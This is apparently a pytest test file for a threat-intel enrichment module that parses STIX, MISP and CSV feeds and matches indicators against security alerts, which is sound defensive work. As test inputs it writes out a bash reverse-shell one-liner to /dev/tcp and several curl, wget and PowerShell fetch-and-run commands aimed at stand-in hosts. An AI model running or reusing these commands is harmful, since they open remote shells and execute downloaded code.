"""Threat-intel feeds (STIX 2, MISP, CSV) and their matching against alerts.

The fixtures under ``tests/fixtures/enrich/intel/`` are small hand-made feeds: a STIX bundle with an
expired, a revoked, an OR, an AND and a broken indicator; a MISP event with to_ids true and false and two
objects; a MISP feed folder whose manifest lists a missing event; a CSV with a CIDR and three bad lines.
"""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest

from shellwatch.enrich.base import SCORE_KEY
from shellwatch.enrich.intel import (
    PREFIX,
    Indicator,
    IntelEnricher,
    IntelError,
    IntelIndex,
    LoadResult,
    extract_observables,
    field_role,
    load_csv,
    load_feed,
    load_feeds,
    load_misp,
    load_stix,
    make_indicator,
    pattern_values,
)
from shellwatch.errors import InputError
from shellwatch.events import Alert
from tests.conftest import FIXTURES

INTEL = FIXTURES / "enrich" / "intel"
NOW = datetime(2024, 6, 1, tzinfo=UTC)
XMRIG_SHA256 = "2ec05b6b8b0302177e00ac835f7534be2785625fa327631026b290c4df0186f4"
XMRIG_MD5 = "8f48c29f09a3edf41a1c00fb0789d2d8"
BACKDOOR_SHA1 = "b8263843f0d53e575551469deebe50cd23a98b29"
REVERSE_SHELL = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"


def values(result: LoadResult) -> set[tuple[str, str]]:
    return {(item.type, item.value) for item in result.indicators}


@pytest.fixture(scope="module")
def index() -> IntelIndex:
    built, results = load_feeds(
        [INTEL / "stix_bundle.json", INTEL / "misp_event.json", INTEL / "misp_feed", INTEL / "intel.csv"],
        now=NOW,
    )
    assert sum(result.counts["issues"] for result in results) == 8
    return built


def enrich(index: IntelIndex, alert: Alert) -> Alert:
    IntelEnricher(index).enrich(alert)
    return alert


def matches(alert: Alert) -> list[tuple[str, str, str, str]]:
    """``(indicator, type, field, value)`` of each match written on the alert."""
    keys = ("indicator", "type", "field", "value")
    columns = [alert[f"{PREFIX}.{key}"] for key in keys]
    assert all(isinstance(column, list) for column in columns)
    return list(zip(*columns, strict=True))


# STIX


def test_stix_bundle_loads_current_indicators_and_observables() -> None:
    result = load_stix(INTEL / "stix_bundle.json", now=NOW)
    assert values(result) == {
        ("ip", "203.0.113.7"),
        ("domain", "evil.example"),
        ("url", "http://dl.evil.example/x.sh"),
        ("cidr", "198.51.100.0/24"),
        ("sha256", XMRIG_SHA256),
        ("md5", XMRIG_MD5),
        ("ip", "2001:db8:bad::1"),
        ("sha1", BACKDOOR_SHA1),
        ("cidr", "2001:db8:c2::/48"),
        ("ip", "192.0.2.101"),
        ("ip", "192.0.2.102"),
    }
    assert result.counts["skipped: expired"] == 1
    assert result.counts["skipped: revoked"] == 1
    assert result.counts["ignored: identity"] == result.counts["ignored: relationship"] == 1
    named = {item.value: item.description for item in result.indicators}
    assert named["evil.example"] == "Dropper infrastructure"
    assert all(item.source == "stix_bundle.json" for item in result.indicators)


def test_stix_issues_name_the_object() -> None:
    result = load_stix(INTEL / "stix_bundle.json", now=NOW)
    issues = {issue.where: issue.message for issue in result.issues}
    assert result.counts["issues"] == len(issues) == 3
    assert "AND" in issues["objects[7] indicator--5e11a7c0-0000-4000-8000-000000000008"]
    assert "pattern" in issues["objects[8] indicator--5e11a7c0-0000-4000-8000-000000000009"]
    assert "process:name" in issues["objects[12] indicator--5e11a7c0-0000-4000-8000-00000000000d"]
    assert all(issue.path.endswith("stix_bundle.json") for issue in result.issues)


def test_stix_expiry_depends_on_now() -> None:
    early = load_stix(INTEL / "stix_bundle.json", now=datetime(2024, 2, 1, tzinfo=UTC))
    assert ("ip", "192.0.2.66") in values(early)
    too_early = load_stix(INTEL / "stix_bundle.json", now=datetime(2023, 1, 1, tzinfo=UTC))
    assert too_early.counts["skipped: not yet valid"] == 8
    assert too_early.counts["loaded"] == 2  # the two plain observables
    late = load_stix(INTEL / "stix_bundle.json", now=datetime(2100, 1, 1, tzinfo=UTC))
    assert ("ip", "192.0.2.101") not in values(late)


def test_pattern_values() -> None:
    found = pattern_values(
        "[ipv4-addr:value = '192.0.2.1' OR file:hashes.'SHA-1' = 'AB'] OR [url:value = 'x']"
    )
    assert found.values == (("ip", "192.0.2.1"), ("sha1", "AB"), ("url", "x"))
    subset = pattern_values("[ipv6-addr:value ISSUBSET '2001:db8::/32']")
    assert subset.values == (("ip", "2001:db8::/32"),)
    assert pattern_values("[domain-name:value LIKE '%.evil']").problems
    assert pattern_values("[domain-name:value = 'it\\'s.example']").values == (("domain", "it's.example"),)
    with pytest.raises(IntelError, match="FOLLOWEDBY"):
        pattern_values("[ipv4-addr:value = '1.1.1.1'] FOLLOWEDBY [ipv4-addr:value = '2.2.2.2']")
    with pytest.raises(IntelError, match="invalid STIX pattern"):
        pattern_values("ipv4-addr:value = '1.1.1.1'")


def test_not_a_bundle_and_not_json(tmp_path: Path) -> None:
    path = tmp_path / "feed.json"
    path.write_text('{"type": "indicator"}', encoding="utf-8")
    assert "not a STIX bundle" in load_stix(path).issues[0].message
    path.write_text('{"type": "bundle",\n "objects": [}', encoding="utf-8")
    broken = load_stix(path)
    assert broken.issues[0].line == 2 and broken.counts["loaded"] == 0


def test_unreadable_feed_raises(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot read"):
        load_stix(tmp_path / "missing.json")
    with pytest.raises(InputError, match=r"manifest\.json"):
        load_misp(tmp_path)


# MISP


def test_misp_event_takes_to_ids_attributes_and_objects() -> None:
    result = load_misp(INTEL / "misp_event.json")
    assert values(result) == {
        ("ip", "203.0.113.50"),
        ("ip", "192.0.2.10"),
        ("domain", "badminer.example"),
        ("url", "http://badminer.example/xmrig"),
        ("sha256", "6d5f86baaa2c459b2d8c58e2a23195b853a2aa5bade744ea15df8da0dc913da6"),
        ("sha256", XMRIG_SHA256),
        ("md5", XMRIG_MD5),
        ("domain", "c2.badminer.example"),
        ("ip", "198.18.0.5"),
    }
    assert result.counts["skipped: not to_ids"] == 1
    assert result.counts["skipped: deleted"] == 1
    assert result.counts["skipped: type text"] == result.counts["skipped: type filename"] == 1
    assert [(issue.where, issue.message) for issue in result.issues] == [
        ("Event.Attribute[6]", "not an IP address or CIDR range: 'not-an-ip'")
    ]
    described = {item.value: item.description for item in result.indicators}
    assert described["192.0.2.10"] == "reverse shell listener"
    assert described["badminer.example"] == "Linux miner campaign"


def test_misp_non_ids_attributes_on_request() -> None:
    result = load_misp(INTEL / "misp_event.json", include_non_ids=True)
    assert ("domain", "cdn.notbad.example") in values(result)
    assert result.counts["skipped: not to_ids"] == 0


def test_misp_feed_folder_reports_missing_event() -> None:
    result = load_misp(INTEL / "misp_feed")
    assert values(result) == {("url", "https://upload.bad.example/s.php"), ("sha1", BACKDOOR_SHA1)}
    assert result.source == "misp_feed"
    [issue] = result.issues
    assert issue.where == "event 5e11a7c0-0000-4000-8000-0000000000ca"
    assert "missing" in issue.message


def test_misp_issues_in_a_feed_event_name_its_file(tmp_path: Path) -> None:
    (tmp_path / "manifest.json").write_text('{"e1": {}}', encoding="utf-8")
    (tmp_path / "e1.json").write_text(
        '{"Event": {"Attribute": [{"type": "md5", "value": "xyz", "to_ids": true}]}}', encoding="utf-8"
    )
    [issue] = load_misp(tmp_path).issues
    assert issue.path == str(tmp_path / "e1.json") and issue.where == "Event.Attribute[0]"


def test_misp_manifest_names_no_path(tmp_path: Path) -> None:
    feed = tmp_path / "feed"
    feed.mkdir()
    (feed / "manifest.json").write_text('{"../secret": {}}', encoding="utf-8")
    (tmp_path / "secret.json").write_text('{"Event": {}}', encoding="utf-8")
    [issue] = load_misp(feed).issues
    assert issue.message == "not an event uuid" and issue.path.endswith("manifest.json")


# CSV


def test_csv_reports_bad_lines_with_their_numbers() -> None:
    result = load_csv(INTEL / "intel.csv")
    assert [(issue.line, issue.message) for issue in result.issues] == [
        (6, "not an IP address or CIDR range: 'not-an-ip'"),
        (11, "not a sha256 digest: 'badhash'"),
        (12, "1 field(s) more than the header has"),
    ]
    assert str(result.issues[0]).endswith("intel.csv: line 6: not an IP address or CIDR range: 'not-an-ip'")
    assert result.counts["loaded"] == 6 and result.counts["issues"] == 3


def test_csv_types_sources_and_guesses() -> None:
    loaded = {item.value: item for item in load_csv(INTEL / "intel.csv").indicators}
    assert loaded["203.0.113.7"] == Indicator("ip", "203.0.113.7", "abuse-test", "reverse shell catcher")
    assert loaded["10.66.0.0/16"].type == "cidr" and loaded["10.66.0.0/16"].source == "intel.csv"
    assert loaded["2001:db8:dead::/48"].type == "cidr"
    assert loaded["evil-cdn.example"].type == "domain"
    assert loaded["http://stage2.example/payload.sh"].type == "url"  # refanged
    assert loaded["5d41402abc4b2a76b9719d911017c592"].type == "md5"


def test_csv_without_indicator_column(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("# comment\nioc,kind\n1.2.3.4,ip\n", encoding="utf-8")
    [issue] = load_csv(path).issues
    assert issue.line == 2 and "indicator" in issue.message


def test_value_column_is_accepted(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_text("Value,Type\n192.0.2.9,IP\n", encoding="utf-8")
    assert values(load_csv(path)) == {("ip", "192.0.2.9")}


def test_load_feed_picks_the_loader() -> None:
    assert load_feed(INTEL / "stix_bundle.json", now=NOW).counts["loaded"] == 11
    assert load_feed(INTEL / "misp_event.json").counts["loaded"] == 9
    assert load_feed(INTEL / "misp_feed").counts["loaded"] == 2
    assert load_feed(INTEL / "intel.csv").counts["loaded"] == 6


# The index


def test_make_indicator_normalizes() -> None:
    assert make_indicator("domain", "Evil.Example.", "s").value == "evil.example"
    assert make_indicator(None, "2001:DB8::1", "s").value == "2001:db8::1"
    assert make_indicator("cidr", "10.1.2.3/8", "s").value == "10.0.0.0/8"
    assert make_indicator("cidr", "10.1.2.3/32", "s") == Indicator("ip", "10.1.2.3", "s")
    assert make_indicator(None, "ABCDEF0123456789ABCDEF0123456789ABCDEF01", "s").type == "sha1"
    for kind, bad in (("domain", "no_tld"), ("url", "evil.example/x"), ("md5", "0" * 40), ("ip", "")):
        with pytest.raises(IntelError):
            make_indicator(kind, bad, "s")


def test_index_lookups() -> None:
    index = IntelIndex(
        [
            make_indicator("domain", "evil.example", "a"),
            make_indicator("domain", "evil.example", "b"),
            make_indicator("domain", "evil.example", "a"),
            make_indicator("url", "HTTP://Dl.Evil.Example/x.sh", "a"),
            make_indicator("cidr", "10.0.0.0/8", "a"),
            make_indicator("cidr", "10.66.0.0/16", "a"),
            make_indicator("sha256", XMRIG_SHA256.upper(), "a"),
        ]
    )
    assert len(index) == 6
    assert [item.source for item in index.match_domain("A.B.EVIL.example.")] == ["a", "b"]
    assert index.match_domain("notevil.example") == index.match_domain("example") == []
    assert index.match_url("http://dl.evil.example/x.sh")
    assert index.match_url("HTTP://Dl.Evil.Example/x.sh")
    assert not index.match_url("http://dl.evil.example/X.sh")
    assert {item.value for item in index.match_ip("10.66.1.2")} == {"10.0.0.0/8", "10.66.0.0/16"}
    assert index.match_ip("::ffff:10.1.1.1") and not index.match_ip("11.0.0.1")
    assert index.match_hash(XMRIG_SHA256)


def test_many_ranges_are_grouped_by_prefix_length() -> None:
    ranges = [make_indicator("cidr", f"100.{n // 256}.{n % 256}.0/24", "bulk") for n in range(5000)]
    index = IntelIndex([*ranges, make_indicator("cidr", "172.16.0.0/12", "bulk")])
    assert len(index) == 5001
    started = time.perf_counter()
    hits = [index.match_ip(f"100.{n // 256}.{n % 256}.77") for n in range(0, 5000, 7)]
    assert all(len(hit) == 1 for hit in hits)
    assert index.match_ip("172.31.255.1")[0].value == "172.16.0.0/12"
    assert not index.match_ip("100.20.0.1")  # 100.19.136.0/24 is the last range listed
    assert time.perf_counter() - started < 1.0


# Text extraction and fields


def test_extract_from_command_lines() -> None:
    found = set(extract_observables("curl -fsSL http://Dl.Evil.Example/x.sh | sh; tar xzf x.tar.gz"))
    assert found == {
        ("url", "http://Dl.Evil.Example/x.sh"),
        ("domain", "dl.evil.example"),  # the URL's host
        ("domain", "Dl.Evil.Example"),  # the same, as bare text
    }
    assert set(extract_observables(REVERSE_SHELL)) == {("ip", "203.0.113.7")}
    text = "ping -6 2001:db8:c2::9; echo 1.2.3.4.5 12:34:56; sha256sum " + XMRIG_SHA256
    assert set(extract_observables(text)) == {("ip", "2001:db8:c2::9"), ("hash", XMRIG_SHA256)}


def test_field_roles() -> None:
    assert field_role("process.entry_meta.source.ip") == "ip"
    assert field_role("destination.domain") == "domain"
    assert field_role("user.domain") is None
    assert field_role("source.user.domain") is None
    assert field_role("process.parent.hash.sha256") == "hash"
    assert field_role("shellwatch.decoded.base64") == "text"
    assert field_role("shellwatch.intel.value") is None
    assert field_role("process.name") is None


# The enricher


def test_ip_in_field_and_reverse_shell(index: IntelIndex) -> None:
    alert = enrich(
        index,
        {
            "rule.level": "high",
            "related.ip": ["203.0.113.7", "203.0.113.50"],
            "process.command_line": REVERSE_SHELL,
            "destination.ip": "203.0.113.50",
        },
    )
    assert matches(alert) == [
        ("203.0.113.7", "ip", "process.command_line", "203.0.113.7"),
        ("203.0.113.7", "ip", "process.command_line", "203.0.113.7"),
        ("203.0.113.50", "ip", "destination.ip", "203.0.113.50"),
    ]
    assert alert[f"{PREFIX}.source"] == ["stix_bundle.json", "abuse-test", "misp_event.json"]
    assert alert[f"{PREFIX}.description"] == ["Reverse shell catcher", "reverse shell catcher", "mining pool"]
    assert alert[f"{PREFIX}.matched"] is True
    assert alert[SCORE_KEY] == 100


def test_cidr_subdomain_url_and_hash(index: IntelIndex) -> None:
    alert = enrich(
        index,
        {
            "source.ip": "10.66.3.4",
            "dns.question.name": "a.b.evil.example",
            "process.command_line": "curl -s http://stage2.example/payload.sh | sh",
            "process.hash.sha1": BACKDOOR_SHA1.upper(),
        },
    )
    found = {(indicator, kind, field) for indicator, kind, field, _ in matches(alert)}
    assert found == {
        ("10.66.0.0/16", "cidr", "source.ip"),
        ("evil.example", "domain", "dns.question.name"),
        ("http://stage2.example/payload.sh", "url", "process.command_line"),
        (BACKDOOR_SHA1, "sha1", "process.hash.sha1"),
    }
    assert "10.66.3.4" in alert[f"{PREFIX}.value"]  # type: ignore[operator]
    assert "a.b.evil.example" in alert[f"{PREFIX}.value"]  # type: ignore[operator]


def test_url_host_and_ipv6_range_in_text(index: IntelIndex) -> None:
    alert = enrich(
        index,
        {
            "powershell.file.script_block_text": "iwr https://dl.evil.example/a.ps1; ping 2001:db8:c2::9",
            "url.full": "http://badminer.example/xmrig",
        },
    )
    kinds = {(indicator, field) for indicator, _, field, _ in matches(alert)}
    assert ("evil.example", "powershell.file.script_block_text") in kinds
    assert ("2001:db8:c2::/48", "powershell.file.script_block_text") in kinds
    assert ("http://badminer.example/xmrig", "url.full") in kinds
    assert ("badminer.example", "url.full") in kinds


def test_decoded_text_is_examined(index: IntelIndex) -> None:
    alert = enrich(index, {"shellwatch.decoded.text": ["wget -qO- 198.51.100.23/m | sh"]})
    assert matches(alert) == [("198.51.100.0/24", "cidr", "shellwatch.decoded.text", "198.51.100.23")]


def test_no_match_writes_nothing(index: IntelIndex) -> None:
    alert: Alert = {
        "process.command_line": "ls -la /tmp",
        "source.ip": "192.0.2.66",  # expired in the STIX bundle
        "user.domain": "evil.example",  # a user's domain is no host
        SCORE_KEY: 50,
    }
    before = dict(alert)
    assert enrich(index, alert) == before


def test_score_is_raised_once(index: IntelIndex) -> None:
    alert: Alert = {"destination.ip": "192.0.2.10", SCORE_KEY: 40}
    enrich(index, alert)
    assert alert[SCORE_KEY] == 65
    enrich(index, alert)
    assert alert[SCORE_KEY] == 65
    assert matches(alert) == [("192.0.2.10", "ip", "destination.ip", "192.0.2.10")]
